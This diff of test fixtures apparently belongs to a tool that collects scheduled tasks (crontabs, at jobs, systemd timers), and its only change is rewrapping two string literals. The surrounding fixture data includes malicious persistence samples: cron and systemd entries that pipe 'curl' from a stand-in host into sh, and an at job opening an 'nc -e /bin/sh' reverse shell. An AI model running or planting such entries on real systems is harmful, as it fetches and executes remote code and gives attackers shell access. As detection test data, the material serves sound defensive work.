@@ -22,7 +22,8 @@ CRONTAB = (
 
 def test_system_and_user_crontabs_env_and_errors(tree, run_collect):
     root = tree({"/etc/passwd": PASSWD, "/etc/crontab": CRONTAB,
-                 "/etc/cron.d/certbot": "SHELL=/bin/sh\n0 */12 * * * root test -x /usr/bin/certbot && certbot -q renew\n",
+                 "/etc/cron.d/certbot": "SHELL=/bin/sh\n"
+                                        "0 */12 * * * root test -x /usr/bin/certbot && certbot -q renew\n",
                  "/var/spool/cron/crontabs/www-data": "# DO NOT EDIT\n*/5 * * * * curl -fsSL http://e.vil/u.sh | sh\n",
                  "/var/spool/cron/root": "@daily /usr/local/bin/backup.sh\n"})
     db = run_collect(root, only=["cron_jobs"])
@@ -67,7 +68,8 @@ def test_periodic_anacron_at_and_timers(tree, run_collect):
                                                  "${SHELL:-/bin/sh} << 'marcinDELIMITER1'\n"
                                                  "nc -e /bin/sh 203.0.113.9 4444\nmarcinDELIMITER1\n",
         "/lib/systemd/system/apt-daily.timer": "[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\n",
-        "/lib/systemd/system/apt-daily.service": "[Service]\nType=oneshot\nExecStart=/usr/lib/apt/apt.systemd.daily update\n",
+        "/lib/systemd/system/apt-daily.service": "[Service]\nType=oneshot\n"
+                                                 "ExecStart=/usr/lib/apt/apt.systemd.daily update\n",
         "/etc/systemd/system/sync.timer": "[Timer]\nOnBootSec=1min\nUnit=helper.service\n",
         "/etc/systemd/system/helper.service": "[Service]\nExecStart=/bin/sh -c 'curl http://e.vil/x|sh'\n",
     })
